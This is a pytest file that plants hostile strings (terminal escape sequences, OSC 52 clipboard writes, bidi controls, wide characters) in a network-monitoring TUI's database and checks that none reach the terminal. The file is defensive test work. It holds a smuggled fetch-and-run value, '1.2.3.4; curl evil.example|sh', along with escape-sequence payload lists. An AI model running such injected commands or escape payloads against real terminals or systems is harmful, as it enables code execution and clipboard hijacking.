"""The hostile-strings corpus (tests/hostile.py) through the real board and every view, in tmux.

Planted in every string the board and the views draw (host names, time-window names, timeline
fields, evidence, alert ids, IP info, out/in tuples, the flows behind the port tables), then
every pane and view is driven at 80x24 and 120x40. Three things are checked:

* the raw byte stream the program wrote to its terminal (``tmux pipe-pane`` from before the
  start) holds only the escape sequences curses itself sends for this terminal (CSI cursor moves
  and SGR, charset designations, keypad mode), no other C0 control, no C1 control, no bidi
  control, no joiner (ZWSP, ZWJ, variation selectors) and none of the corpus' payloads;
* every screen keeps its pane borders at the columns the layout gives them (wide CJK and emoji
  must not push the right border), and shows no remnant of a sequence that is dropped whole;
* ``w`` copies only a value that parses as an IP address (tmux's buffer, OSC 52).

LANG=C (a terminal that is not UTF-8) on the same database: ASCII only, ASCII stand-ins where
glyphs would be, borders aligned (tests/test_terminal.py covers the generated demo's panes).
"""

from __future__ import annotations

import base64
import ctypes
import ctypes.util
import json
import re
import shlex
import sqlite3
import sys
import time

import pytest

import hostile
from kalipso.demo.generator import Scenario, flow_document, generate, timeline_line
from kalipso.text import ascii_fallback, sanitize
from kalipso.ui import layout
from tmuxdrive import Tmux

from conftest import load_keys_json, needs_fixture

IP = "10.99.0.1"  # the hostile profile: every string of it is hostile
REAL_PEER = "203.0.113.7"  # a timeline destination that is an IP address (copied by w)
INJECTION = "1.2.3.4; curl evil.example|sh\n"  # a destination that is not (never copied)
NAMES = list(hostile.CORPUS)
VALUES = list(hostile.CORPUS.values())
TW1 = "timewindow1"
HOSTILE_TWS = [f"timewindow{i + 2}{v[:80]}" for i, v in enumerate(VALUES)]  # names with every payload


def hv(i: int) -> str:
    return VALUES[i % len(VALUES)]


# --------------------------------------------------------------------------- planting
def hostile_ip_info(i: int) -> dict[str, str]:
    """IPsInfo:<kind> values (current layout) for the i-th hostile peer."""
    return {"geocountry": hv(i), "asn": json.dumps({"number": hv(i + 1), "org": hv(i + 2)}),
            "reverse_dns": hv(i + 3), "DNS_resolution": json.dumps([hv(i + 4), hv(i + 5)]),
            "SNI": json.dumps([{"server_name": hv(i + 6), "dport": 443}]),
            "VirusTotal": json.dumps({hv(i + 7)[:20]: hv(i + 8), "URL": 0.5}),
            "threatintelligence": json.dumps({"description": hv(i + 9), "threat_level": hv(i + 10),
                                              "source": hv(i + 11)}),
            "score": hv(i + 12), "confidence": hv(i + 13)}


def timeline_lines(ts0: float) -> dict[str, float]:
    """The hostile profile's timeline: the injection first, then the real IP, then one line per
    corpus entry with a hostile value at the start of every field."""
    lines = {json.dumps(timeline_line(INJECTION, 443, "tcp", ts0, True, 10, 20, 0.1, "????")): ts0,
             json.dumps(timeline_line(REAL_PEER, 443, "tcp", ts0 + 1, True, 10, 20, 0.1, "????")): ts0 + 1}
    for i in range(len(VALUES)):
        line = timeline_line(hv(i + 3), 80, "tcp", ts0 + 2 + i, True, 100, 200, 1.0, hv(i + 2),
                             info={hv(i + 8)[:30]: hv(i + 9), "server_name": hv(i + 10)},
                             dport_name=hv(i + 1), warning=hv(i + 6))
        line |= {"timestamp": hv(i), "dport/proto": hv(i + 4), "state": hv(i + 5), "sent": hv(i + 7),
                 "critical warning": hv(i + 11), "preposition": "to"}
        lines[json.dumps(line)] = ts0 + 2 + i
    lines[hostile.ALL] = ts0 + 100  # a member that is not JSON at all: shown raw, sanitised
    return lines


def hostile_evidence(ts0: float) -> dict[str, dict]:
    evidence = {}
    for i in range(len(VALUES)):
        eid = f"ev-{i:02d}-{hv(i + 5)[:40]}"
        evidence[eid] = {
            "id": eid, "evidence_type": hv(i), "description": hv(i + 1),
            "threat_level": ("critical", "high", "medium", "low", hv(i + 2))[i % 5], "confidence": 0.9,
            "timestamp": ts0 + i, "attacker": {"direction": "SRC", "ioc_type": "IP", "value": hv(i + 3)},
            "victim": {"direction": "DST", "ioc_type": "IP", "value": hv(i + 4), "SNI": hv(i + 6)},
            "profile": {"ip": IP}, "timewindow": {"number": 1}, "uid": [hv(i + 7)[:40], "Cflow1"],
            hv(i + 8)[:30]: hv(i + 9), "category": hv(i + 10)}
    return evidence


def plant_current(server, tmp_path) -> str:
    """A generated current-layout database plus the hostile profile and 19 profiles whose DHCP
    host names are the corpus; returns the flows.sqlite path."""
    db0, db1 = server.client(0), server.client(1)
    result = generate(db0, db1, str(tmp_path), Scenario(hosts=2, hours=2, flows_per_hour=4))
    ts0 = Scenario().start + 60
    db0.zadd("profiles", {f"profile_{IP}": ts0})
    db0.hset(f"profile_{IP}", mapping={"starttime": str(ts0), "duration": "3600", "threat_level": "critical",
                                        "max_threat_level": "critical", "confidence": "0.9",
                                        "MAC": hostile.OSC52, "host_name": hostile.OSC_TITLE})
    db0.zadd(f"twsprofile_{IP}", {TW1: ts0, **{tw: ts0 + 3600 * (i + 1) for i, tw in enumerate(HOSTILE_TWS)}})
    timeline = timeline_lines(ts0)
    db0.zadd(f"profile_{IP}_{TW1}_timeline", timeline)
    evidence = hostile_evidence(ts0)
    db0.hset(f"profile_{IP}_{TW1}_evidence", mapping={k: json.dumps(v) for k, v in evidence.items()})
    ids = list(evidence)
    alerts = {f"alert-{hv(i)}": json.dumps(ids[i::3]) for i in range(3)}
    db0.hset(f"profile_{IP}_{TW1}", "alerts", json.dumps(alerts))
    tuples = {f"{hv(i)}-{hv(i + 1)[:12]}-tcp": hv(i + 2) for i in range(len(VALUES))}
    tuples[f"{REAL_PEER}-443-tcp"] = "88" + hostile.WIDE_CJK
    db0.hset(f"profile_{IP}_{TW1}:OutTuples:symbols", mapping=tuples)
    db0.hset(f"profile_{IP}_{TW1}:InTuples:symbols", mapping=tuples)
    for i, tw in enumerate(HOSTILE_TWS):  # each hostile window: a timeline and an evidence of its own
        db0.zadd(f"profile_{IP}_{tw}_timeline", dict(list(timeline.items())[2 + i: 4 + i]))
        one = evidence[ids[i]]
        db0.hset(f"profile_{IP}_{tw}_evidence", ids[i], json.dumps(one))
    for i, peer in enumerate([IP, REAL_PEER, *(hv(i + 3) for i in range(len(VALUES)))]):
        for kind, value in hostile_ip_info(i).items():
            db1.hset(f"IPsInfo:{kind}", peer, value)
    sql = sqlite3.connect(result.flows_db)
    with sql:
        for i in range(len(VALUES)):  # the flows behind the port tables (E C B P N) and Why
            doc = flow_document(f"Chostile{i}", IP, hv(i + 3), 40000 + i, 80, "tcp", ts0 + i, "SF", 1, 1, 10, 20, 0.1)
            doc |= {"daddr": hv(i), "dport": hv(i + 1), "sport": hv(i + 2), "proto": "tcp" + hv(i + 3),
                    "state": hv(i + 4), "appproto": hv(i + 5)}
            sql.execute("INSERT INTO flows VALUES (?,?,?,?,?,?)",
                        (f"Chostile{i}", json.dumps(doc), "malicious", f"profile_{IP}", TW1, ""))
        why = flow_document("Cflow1", IP, hostile.ALL, 1, 2, hostile.BEL, ts0, hostile.OSC52, 1, 1, 1, 1, 0.1)
        sql.execute("INSERT INTO flows VALUES (?,?,?,?,?,?)",
                    ("Cflow1", json.dumps(why), "malicious", f"profile_{IP}", TW1, ""))
        names = [(IP, hostile.WIDE_CJK + hostile.OSC_TITLE + hostile.EMOJI_ZWJ)]
        names += [(f"10.66.0.{i + 2}", v) for i, v in enumerate(VALUES)]
        for ip, name in names:
            sql.execute("INSERT INTO altflows VALUES (?,?,?,?,?,?)",
                        (f"Dhcp{ip}", json.dumps({"client_addr": ip, "host_name": name, "type_": "dhcp"}),
                         "benign", f"profile_{ip}", TW1, "dhcp"))
    sql.close()
    for i in range(len(VALUES)):
        other = f"10.66.0.{i + 2}"
        db0.zadd("profiles", {f"profile_{other}": ts0 + i})
        db0.hset(f"profile_{other}", mapping={"starttime": str(ts0), "threat_level": "high",
                                               "max_threat_level": "high"})
        db0.zadd(f"twsprofile_{other}", {TW1: ts0})
        db0.zadd(f"profile_{other}_{TW1}_timeline", dict(list(timeline.items())[2 + i: 3 + i]))
    return result.flows_db


# --------------------------------------------------------------------------- the byte stream
# What ncurses sends for TERM=tmux-256color (infocmp tmux-256color): CSI cursor moves, erases,
# scrolling regions, SGR and modes; ESC ( B / ESC ) 0 charset designations; ESC M (reverse
# index); ESC = / ESC > (keypad); ESC 7 / ESC 8. CSI finals that query the terminal (c, n) or
# resize/report a window (t) are never curses' own.
CURSES_CSI = re.compile(rb"\x1b\[[?>]?[0-9;]*[@A-HJKLMPSTXZdfghlmrb]")
CURSES_ESC = re.compile(rb"\x1b(?:[()][B0]|[=>78M])")
CURSES_C0 = set(b"\r\n\b\t\x0e\x0f")  # CR, LF, BS (cub1), HT (ht), SO/SI (charset shifts)
# controls, bidi controls, and the joiners that fuse glyphs (zero-width space/non-joiner/joiner,
# word joiner, variation selectors): terminals disagree on the width of what they join
UNSAFE_TEXT = re.compile("[\x00-\x1f\x7f-\x9f\u061c\u200b-\u200f\u202a-\u202e\u2060\u2066-\u2069\ufe00-\ufe0f\ufeff]")
# byte strings of the corpus' payloads: any of them in the stream is a sequence that got through
PAYLOADS = [b"\x1b]52;", b"\x1b]8;", b"\x1b]0;", b"\x1b[2J", b"\x1b[31mred", b"\x1b[c", b"\x1b[6n", b"\x1bZ",
            b"\x1bP", b"\x07", b"\x9b", b"\xc2\x9b", b"\xc2\x9d", b"\xc2\x9c", "\u202e".encode(), "\u2066".encode(),
            "\u200b".encode(), "\u200d".encode(), b"\x00", b"\x0b", b"\x0c", b"\x7f"]


def stream_problems(raw: bytes, allowed_osc: tuple[bytes, ...] = ()) -> list[str]:
    """Everything in the program's output that is not curses' own doing, as readable strings."""
    for osc in allowed_osc:  # the program's own OSC 52 (w on a real IP), exactly
        raw = raw.replace(osc, b"")
    problems = [f"payload {p!r}" for p in PAYLOADS if p in raw]
    rest = CURSES_ESC.sub(b"", CURSES_CSI.sub(b"", raw))
    for m in re.finditer(rb"\x1b.{0,12}", rest, re.S):
        problems.append(f"escape sequence {m.group()!r}")
    problems += [f"C0 control {bytes([b])!r}" for b in sorted(set(rest) - CURSES_C0) if b < 0x20 or b == 0x7f]
    try:
        text = rest.decode("utf-8")
    except UnicodeDecodeError as exc:
        problems.append(f"not UTF-8: {rest[max(exc.start - 20, 0): exc.end + 20]!r}")
        text = rest.decode("utf-8", "replace")
    problems += [f"control character U+{ord(c):04X}" for c in sorted(set(UNSAFE_TEXT.findall(text)))
                 if c not in "\r\n\b\t\x0e\x0f\x1b"]
    return problems


# --------------------------------------------------------------------------- the screen
_libc = ctypes.CDLL(ctypes.util.find_library("c"))
_libc.wcwidth.argtypes = [ctypes.c_wchar]
_libc.setlocale.restype = ctypes.c_char_p
_libc.setlocale(6, b"C.UTF-8")  # LC_ALL: tmux measures characters with the C library's wcwidth


def cells(text: str) -> list[str]:
    """A captured screen line as tmux 3.3 holds it: one string per cell ('' for the right half
    of a wide character). Measured: tmux sizes each character with the C library's wcwidth; a
    zero-width character, and any character after a ZWJ (U+200D), joins the cell before it."""
    out: list[str] = []
    for ch in text:
        w = _libc.wcwidth(ch)
        last = -1 if out and out[-1] != "" else -2
        if out and (w <= 0 or out[last].endswith("\u200d")):
            out[last] += ch
        elif w == 2:
            out += [ch, ""]
        else:
            out.append(ch)
    return out


BORDERS = {"v": "│|", "tl": "┌+", "tr": "┐+", "bl": "└+", "br": "┘+", "h": "─-"}


def rects_of(screen: list[list[str]], rows: int, cols: int, board: bool) -> list[layout.Rect]:
    """The boxes the screen must show: the board's four panes or a view's area, and an overlay
    (detail box, help) when its top-left corner is where draw_overlay puts it."""
    rects = list(layout.main_board(rows, cols).values())[1:5] if board else [layout.view_area(rows, cols)["view"]]
    width = min(max(cols - 4, 20), 100)
    x = (cols - width) // 2
    top = screen[1]
    if x not in (r.x for r in rects) and len(top) > x and top[x] in BORDERS["tl"]:
        bottom = next((y for y in range(2, rows - 1) if len(screen[y]) > x and screen[y][x] in BORDERS["bl"]), None)
        if bottom is not None:
            rects.append(layout.Rect(1, x, bottom, width))
    return rects


def misaligned(text: str, rows: int, cols: int, board: bool) -> list[str]:
    """Border cells that are not where the layout puts them, and lines that are not ``cols`` cells."""
    lines = text.split("\n")[:rows]
    screen = [cells(ln) for ln in lines] + [[] for _ in range(rows - len(lines))]
    bad = [f"line {y} is {len(c)} cells: {lines[y]!r}" for y, c in enumerate(screen) if len(c) > cols]
    rects = rects_of(screen, rows, cols, board)
    overlay = rects[-1] if len(rects) in (2, 5) else None
    for r in rects:
        for y in range(r.y, r.y + r.h):
            row = screen[y]
            for x, kind in ((r.x, "v"), (r.x + r.w - 1, "v")):
                if y == r.y:
                    kind = "tl" if x == r.x else "tr"
                elif y == r.y + r.h - 1:
                    kind = "bl" if x == r.x else "br"
                if overlay is not None and r is not overlay and overlay.contains(y, x):
                    continue  # under the overlay
                # tmux drops trailing blanks; a zero-width character drawn right after a border
                # joins its cell without moving anything: the base character is what counts
                cell = row[x] if x < len(row) else " "
                if cell[:1] not in BORDERS[kind]:
                    bad.append(f"line {y} col {x}: {cell!r} instead of a {kind} border: {lines[y]!r}")
    return bad


# Remnants of sequences the sanitiser drops whole: on screen they mean a sequence was cut apart.
REMNANTS = ("Y3VybCBldmls", "ZWNobyBwd25l", "]52;", "52;c;", "evil.example/", "8;;http", "]8;;", "pwned title",
            "[2J", "[31m", "[0m", "[6n")


class Session:
    """One run of the board in tmux, its raw output recorded from before the program starts."""

    def __init__(self, server, flows_db: str | None, tmp_path, cols: int, rows: int,
                 env: dict[str, str] | None = None, clipboard: bool = False):
        self.cols, self.rows, self.env = cols, rows, env or {}
        self.utf8 = "LANG" not in self.env
        self.log = tmp_path / f"raw-{cols}x{rows}-{time.monotonic_ns()}.bin"
        self.log.write_bytes(b"")
        args = ["--port", str(server.port), "--cache-url", f"redis://127.0.0.1:{server.port}/1", "--refresh", "0"]
        if flows_db:
            args += ["--flows-db", flows_db]
        # the pane runs a wrapper that waits until the recorder is attached, then execs Python:
        # nothing the program writes to its terminal is missed
        go = tmp_path / f"go-{time.monotonic_ns()}"
        wrapper = tmp_path / f"python-{time.monotonic_ns()}"
        wrapper.write_text(f"#!/bin/sh\nwhile [ ! -e {shlex.quote(str(go))} ]; do sleep 0.02; done\n"
                           f"exec {shlex.quote(sys.executable)} \"$@\"\n")
        wrapper.chmod(0o700)
        self.t = Tmux(args, cols=cols, rows=rows, python=str(wrapper),
                      env={"DISPLAY": "", "WAYLAND_DISPLAY": "", **self.env})
        if clipboard:
            self.t._tmux("set-option", "-s", "set-clipboard", "on")
        self.t._tmux("pipe-pane", "-o", f"cat >> {shlex.quote(str(self.log))}")
        go.write_text("")
        self.screens: list[tuple[str, str, bool]] = []
        self.raw = b""

    def keys(self, *keys: str) -> None:
        """Several keys in one tmux call (the program reads them one by one). Escape goes alone,
        followed by a pause longer than ESCDELAY, or the next key would read as Alt+key."""
        batch: list[str] = []
        for key in (*keys, None):
            if key in ("Escape", None) and batch:
                self.t._tmux("send-keys", *batch)
                batch = []
            if key == "Escape":
                self.t._tmux("send-keys", key)
                time.sleep(0.1)
            elif key is not None:
                batch.append(key)

    def wait(self, *texts: str, timeout: float = 20.0, board: bool = True, what: str = "") -> str:
        """Wait for ``texts``, then for the screen to settle (two equal captures); keep it."""
        screen = self.t.wait_for(*texts, timeout=timeout)
        deadline = time.monotonic() + 5
        while time.monotonic() < deadline:
            time.sleep(0.03)
            again = self.t.screen()
            if again == screen:
                break
            screen = again
        self.screens.append((what or texts[0], screen, board))
        return screen

    def finish(self) -> None:
        """Quit, wait until curses has restored the terminal, keep the raw output, close tmux."""
        try:
            self.keys("Escape", "q")  # Esc first: a detail box, view or help takes the q otherwise
            assert self.t.wait_exit() == 0, self.t.screen()
            deadline = time.monotonic() + 5
            while b"\x1b[?1049l" not in self.log.read_bytes() and time.monotonic() < deadline:
                time.sleep(0.05)
            self.raw = self.log.read_bytes()
        finally:
            self.t.close()


VIEWS = {"E": "Source ports as client", "C": "Destination IPs as client", "B": "Destination ports as server",
         "P": "Destination ports as client", "N": "Destination IP:port as client", "I": "In tuples",
         "H": "Out tuples", "V": "Evidence of all time windows", "A": "Activity", "M": "World map"}


def ascii_prefix(text: str, n: int) -> str:
    head = text[:n]
    return head[: next((i for i, c in enumerate(head) if not c.isascii()), len(head))]


def drive(s: Session, full: bool = True) -> None:
    """The tree, every timeline line, the detail boxes, horizontal scrolling, the evidence
    groups and their details, Why, every hotkey view, the help, every hostile window; the
    screen after each step is kept. ``full=False`` takes every third line, group and window."""
    step = 1 if full else 3
    focus = "▶ " if s.utf8 else "> "
    s.wait("Profiles (", "10.66.0.", "evilred.com", what="tree")  # host names shown
    s.keys("G")
    s.wait("Profiles (", what="tree end")
    s.keys("g")
    s.t.filter(IP)
    s.wait(f"/{IP}", what="filtered")
    s.keys("Enter")
    s.wait("timewindow2 ", "timewindow3evilred.com", what="windows")
    s.keys("G")
    s.wait("timewindow20AAA", what="windows end")
    s.keys("g", "Down", "Enter")
    s.wait(f"Timeline {IP} {TW1} [1/", "evidence in 19 groups", what="timewindow1")
    s.keys("Tab")
    total = len(VALUES) + 3
    for n in range(2, total + 1, step):  # the IP box follows each line's destination
        s.keys(*["Down"] * (n - 1 if n == 2 else step))
        s.wait(f"[{n}/{total}]", what=f"timeline line {n}")
    s.keys("c")  # every line on its own (a folded line: test_enter_on_a_folded_timeline_line_opens_its_detail)
    s.wait(f"[1/{total}]", what="unfolded")
    for n in (3, 5, total) if full else (3, total):
        s.keys(*(["G"] if n == total else ["g", *["Down"] * (n - 1)]))
        s.wait(f"[{n}/{total}]", what=f"line {n}")
        s.keys("Enter")
        # the footer only: the box's text may be garbled by the emoji width bug (test_borders_stay_aligned)
        s.wait("Esc close", what=f"detail of line {n}")
        s.keys("NPage")
        s.wait("Esc close", what=f"detail of line {n}, page 2")
        s.keys("Escape")
        s.t.wait_for("Esc close", absent=True)
        s.wait(f"[{n}/{total}]", what="detail closed")
    s.keys("c")
    s.wait(f"[1/{total}]", what="folded again")
    for n in range(3):  # horizontal scrolling: shown apart, checked by its own test
        s.keys(*["Right"] * 9)
        s.wait(f"[1/{total}]", what=f"scrolled right {n}")
    s.keys(*["Left"] * 30, "Tab")
    s.wait(f"{focus}Evidence", what="evidence focus")
    s.keys("Enter", "Down", "Enter")  # the alerts, the first alert
    s.wait("alert fired", what="alerts open")
    s.keys("Down", "Enter")  # its first evidence
    s.wait("description", "threat level", what="evidence detail")
    s.keys("f")
    s.wait("Why:", what="why")
    s.keys("Escape", "g", "Enter")  # the alerts closed: row 1 + n is the n-th group
    for n in range(0, len(VALUES), step):  # each group: open, the detail of its evidence, close
        s.keys("g", *["Down"] * (1 + n), "Enter", "Down", "Enter")
        s.wait("Esc close", what=f"group {n} detail")
        s.keys("NPage")
        s.wait("Esc close", what=f"group {n} detail, page 2")
        s.keys("Escape")
        s.t.wait_for("Esc close", absent=True)
        s.keys("Up", "Enter")
    for key, title in VIEWS.items():
        s.keys(key)
        s.wait(f"{key} {title}", board=False, what=f"view {key}", timeout=30)
        if key == "M":
            s.t.wait_for("loading the world map", absent=True, timeout=30)
            s.wait(f"{key} {title}", board=False, what="view M drawn")
        elif key in "HIV":
            s.keys("NPage")
            s.wait(f"{key} {title}", board=False, what=f"view {key}, page 2")
        s.keys("Escape")
        s.wait("Profiles (", what=f"after {key}")
    s.keys("?")
    s.wait("Keys of the main board", what="help")
    s.keys("x", "Tab")  # any key closes the help; focus: evidence -> tree
    s.wait(f"{focus}Profiles", what="tree focus")
    for i in range(0, len(HOSTILE_TWS), step):
        s.keys(*["Down"] * (1 if i == 0 else step), "Enter")
        title = f"Timeline {IP} {sanitize(HOSTILE_TWS[i])} [1/"
        s.wait(ascii_prefix(title if s.utf8 else ascii_fallback(title), 40), what=f"window {HOSTILE_TWS[i]!r}")


def plant_classic(server) -> None:
    """Classic Slips (1.0.1): a real fixture plus the hostile profile in its layout: host names in
    the MAC JSON of profile_<ip>, evidence in the window hash's Evidence field, tuples and port
    tables as JSON fields, one IPsInfo JSON per IP."""
    load_keys_json(server, needs_fixture("slips-1.0.1/test15-malicious-zeek-dir"))
    db0, db1 = server.client(0), server.client(1)
    ts0 = 1664459365.0
    db0.sadd("profiles", f"profile_{IP}")
    db0.hset(f"profile_{IP}", mapping={"starttime": str(ts0), "duration": "3600", "threat_level": "critical",
                                        "MAC": json.dumps({"MAC": hostile.OSC52, "Vendor": hostile.BIDI_RLO,
                                                           "host_name": hostile.WIDE_CJK + hostile.OSC_TITLE
                                                           + hostile.EMOJI_ZWJ})})
    db0.zadd(f"twsprofile_{IP}", {TW1: ts0, **{tw: ts0 + 3600 * (i + 1) for i, tw in enumerate(HOSTILE_TWS)}})
    timeline = timeline_lines(ts0)
    db0.zadd(f"profile_{IP}_{TW1}_timeline", timeline)
    evidence = hostile_evidence(ts0)
    ids = list(evidence)
    tw_hash = f"profile_{IP}_{TW1}"
    db0.hset(tw_hash, "Evidence", json.dumps({k: json.dumps(v) for k, v in evidence.items()}))
    db0.hset(tw_hash, "alerts", json.dumps({f"{tw_hash}_{hv(i)}": json.dumps(ids[i::3]) for i in range(3)}))
    tuples = {f"{hv(i)}-{hv(i + 1)[:12]}-tcp": [hv(i + 2), [ts0, ts0 + 1]] for i in range(len(VALUES))}
    tuples[f"{REAL_PEER}-443-tcp"] = ["88" + hostile.WIDE_CJK, [ts0, ts0]]
    db0.hset(tw_hash, "OutTuples", json.dumps(tuples))
    db0.hset(tw_hash, "InTuples", json.dumps(tuples))
    table = {hv(i): {"totalflows": 1, "totalpkt": 2, "totalbytes": 3, "dstports": {hv(i + 1): 1}}
             for i in range(len(VALUES))}
    for field in ("DstIPsClientTCPEstablished", "DstPortsClientTCPEstablished", "SrcPortsClientTCPEstablished",
                  "DstPortsServerTCPNot Established", "DstIPsClientUDPNot Established"):
        db0.hset(tw_hash, field, json.dumps(table))
    for i, tw in enumerate(HOSTILE_TWS):
        db0.zadd(f"profile_{IP}_{tw}_timeline", dict(list(timeline.items())[2 + i: 4 + i]))
        db0.hset(f"profile_{IP}_{tw}", "Evidence", json.dumps({ids[i]: json.dumps(evidence[ids[i]])}))
    for i, peer in enumerate([IP, REAL_PEER, *(hv(i + 3) for i in range(len(VALUES)))]):
        info = hostile_ip_info(i)
        db1.hset("IPsInfo", peer, json.dumps({
            "geocountry": info["geocountry"], "asn": {"asnorg": hv(i + 1), "number": hv(i + 2)},
            "reverse_dns": info["reverse_dns"], "SNI": [{"server_name": hv(i + 6), "dport": 443}],
            "VirusTotal": {hv(i + 7)[:20]: hv(i + 8), "URL": 0.5}, "score": hv(i + 12)}))
    for i, value in enumerate(VALUES):
        other = f"10.66.0.{i + 2}"
        db0.sadd("profiles", f"profile_{other}")
        db0.hset(f"profile_{other}", mapping={"starttime": str(ts0), "threat_level": "high",
                                               "MAC": json.dumps({"MAC": value, "host_name": value})})
        db0.zadd(f"twsprofile_{other}", {TW1: ts0})
        db0.zadd(f"profile_{other}_{TW1}_timeline", dict(list(timeline.items())[2 + i: 3 + i]))


# --------------------------------------------------------------------------- the runs
SIZES = {"80x24": (80, 24), "120x40": (120, 40)}
RUNS = ["current-80x24", "current-120x40", "classic-120x40", "LANG=C-120x40"]
_runs: dict[str, Session] = {}


@pytest.fixture(scope="module")
def current_db(redis_server, tmp_path_factory):
    return plant_current(redis_server, tmp_path_factory.mktemp("hostile"))


@pytest.fixture(scope="module")
def run_of(redis_server, redis_binary, current_db, tmp_path_factory):
    """kind -> the Session of that run, driven once per module and shared by the checks."""
    from kalipso.data.server import RedisServer

    def get(kind: str) -> Session:
        if kind not in _runs:
            layout_name, size = kind.split("-")
            cols, rows = SIZES[size]
            tmp = tmp_path_factory.mktemp(kind.replace("=", ""))
            if layout_name == "classic":
                with RedisServer(redis_binary) as server:
                    plant_classic(server)
                    _runs[kind] = run(server, None, tmp, cols, rows, full=False)
            elif layout_name == "LANG=C":
                _runs[kind] = run(redis_server, current_db, tmp, cols, rows, env={"LANG": "C"}, full=False)
            else:
                _runs[kind] = run(redis_server, current_db, tmp, cols, rows, full=size == "120x40")
        return _runs[kind]

    yield get
    _runs.clear()


def run(server, flows_db, tmp, cols, rows, env=None, full=True) -> Session:
    s = Session(server, flows_db, tmp, cols, rows, env=env)
    try:
        drive(s, full)
    finally:
        s.finish()
    return s


def board_screens(s: Session, scrolled: bool = False) -> list[tuple[str, str, bool]]:
    return [x for x in s.screens if x[0].startswith("scrolled right") == scrolled]


# --------------------------------------------------------------------------- the checks
@pytest.mark.parametrize("kind", RUNS)
def test_no_control_byte_reaches_the_terminal(run_of, kind):
    s = run_of(kind)
    assert len(s.screens) > 40 and b"\x1b[?1049h" in s.raw and len(s.raw) > 50_000, "the run was not recorded"
    assert stream_problems(s.raw) == []
    print(f"{kind}: {len(s.raw):,} bytes written to the terminal, {len(s.screens)} screens, 0 foreign control bytes")
    shown = "\n".join(screen for _, screen, _ in s.screens)
    # the hostile values were drawn (their printable part): the check above was not vacuous
    for text in ("evilred.com", "click", "invoicefdp.exe", "abcde", "line1line2line3", "AAAAAAAAAAAAAAAA"):
        assert text in shown, text
    details = [screen for what, screen, _ in s.screens if what.startswith(("detail of", "group", "evidence detail"))]
    assert any("Timeline line" in d for d in details) and any("Evidence" in d and "Why" in d for d in details + [
        screen for what, screen, _ in s.screens if what == "why"])
    if s.utf8:
        assert "主机名称-服务器" in shown and hostile.COMBINING in shown
        assert "\u202e" not in shown and "\u2066" not in shown
    else:
        assert shown.isascii() and s.raw.isascii(), [ln for ln in shown.splitlines() if not ln.isascii()][:5]
        assert "????-???" in shown  # each wide CJK character is one '?'


@pytest.mark.parametrize("kind", RUNS)
def test_no_remnant_of_a_dropped_sequence_on_screen(run_of, kind):
    s = run_of(kind)
    found = {(what, r) for what, screen, _ in board_screens(s) for r in REMNANTS if r in screen}
    assert not found, sorted(found)


@pytest.mark.parametrize("kind", RUNS)
def test_no_remnant_when_the_timeline_scrolls_right(run_of, kind):
    # found here: scrolling cut the raw text inside an escape sequence, whose payload then showed
    # ('ZWNobyBwd25l' of an OSC 52, '[31m', '8;;http://evil.example/click'); fixed in 58299a4
    s = run_of(kind)
    found = {(what, r) for what, screen, _ in board_screens(s, scrolled=True) for r in REMNANTS if r in screen}
    assert not found, sorted(found)


@pytest.mark.parametrize("kind", RUNS)
def test_borders_stay_aligned(run_of, kind):
    # found here: emoji ZWJ sequences were 2 cells for kalipso.text, 4-8 for curses (code points)
    # and 1-2 for tmux 3.3 (joins after a ZWJ): lines overflowed, borders were overwritten and text
    # wrapped onto the next row on 52 of 75 screens at 80x24; fixed in 58299a4 (joiners dropped)
    s = run_of(kind)
    bad = {}
    for what, screen, board in s.screens:
        problems = misaligned(screen, s.rows, s.cols, board)
        if problems:
            bad[what] = problems[:3]
    assert not bad, f"{len(bad)} of {len(s.screens)} screens misaligned: {bad}"


def open_timewindow1(s: Session) -> None:
    s.wait("Profiles (", "10.66.0.")
    s.t.filter(IP)
    s.wait(f"/{IP}")
    s.keys("Enter")
    s.wait("timewindow2 ")
    s.keys("Down", "Enter")
    s.wait(f"Timeline {IP} {TW1} [1/")
    s.keys("Tab")
    s.wait(f"▶ Timeline {IP}")


def tmux_buffers(s: Session) -> str:
    return s.t._tmux("list-buffers", "-F", "#{buffer_sample}").strip()


def test_w_copies_only_an_ip(redis_server, current_db, tmp_path):
    """w on a destination that is not exactly an IP says why and copies nothing (tmux's buffer
    stays empty); on a real IP it sends one OSC 52 with that IP and nothing else."""
    s = Session(redis_server, current_db, tmp_path, 120, 40, clipboard=True)
    try:
        open_timewindow1(s)
        s.keys("w")  # line 1: '1.2.3.4; curl evil.example|sh\n'
        s.wait("'1.2.3.4; curl evil.example|sh' is not an IP address: nothing copied")
        s.keys("Down", "Down")  # line 3: a destination that is an OSC 52 sequence itself
        s.wait(f"[3/{len(VALUES) + 3}]")
        s.keys("w")
        s.wait("'' is not an IP address: nothing copied")
        time.sleep(0.3)
        assert tmux_buffers(s) == ""  # tmux received no OSC 52 at all
        s.keys("Up")
        s.wait(f"[2/{len(VALUES) + 3}]", REAL_PEER)
        s.keys("w")
        s.wait(f"copied {REAL_PEER} via OSC 52")
        deadline = time.monotonic() + 10
        while tmux_buffers(s) != REAL_PEER and time.monotonic() < deadline:
            time.sleep(0.1)
        assert tmux_buffers(s) == REAL_PEER
        assert s.t._tmux("show-buffer") == REAL_PEER
    finally:
        s.finish()
    own = b"\x1b]52;c;" + base64.b64encode(REAL_PEER.encode()) + b"\x07"
    assert s.raw.count(b"\x1b]52;") == 1 and own in s.raw
    assert stream_problems(s.raw, allowed_osc=(own,)) == []


def test_enter_on_a_folded_timeline_line_opens_its_detail(redis_server, current_db, tmp_path):
    # found here: triage.detail_fields raised 'TypeError: no detail fields for TimelineRun' (status
    # line: internal error in the detail box; keys then went to an invisible box); fixed in 58299a4
    s = Session(redis_server, current_db, tmp_path, 120, 40)
    try:
        open_timewindow1(s)
        s.keys("Enter")
        deadline = time.monotonic() + 5  # the error shows in the status line only at the next redraw
        screen = s.t.screen()
        while "Esc close" not in screen and "internal error" not in screen and time.monotonic() < deadline:
            time.sleep(0.1)
            screen = s.t.screen()
        assert "internal error" not in screen, screen.splitlines()[0]
        assert "Timeline line" in screen, "no detail box opened"
        assert "destination" in screen and "1.2.3.4; curl evil.example|sh" in screen
    finally:
        s.finish()


def test_stream_check_catches_every_payload():
    """The byte check is not vacuous: each corpus payload written raw inside a curses-like frame
    is reported; the frame alone (cursor moves, SGR, charset, keypad, alternate screen) is not."""
    frame = (b"\x1b[?1049h\x1b[1;40r\x1b(B\x1b[m\x1b[?1h\x1b=\x1b[H\x1b[J\x1b[3;5H\x1b[0;1m\x0f\x1b[35m"
             + "┌─ ▶ Profiles ─┐ 主机名称 👩💻 e\u0301\r\n\b\t".encode()
             + b"\x1b[39m\x1b[m\x1b[78G\x1bM\x1b[?1l\x1b>")
    assert stream_problems(frame) == []
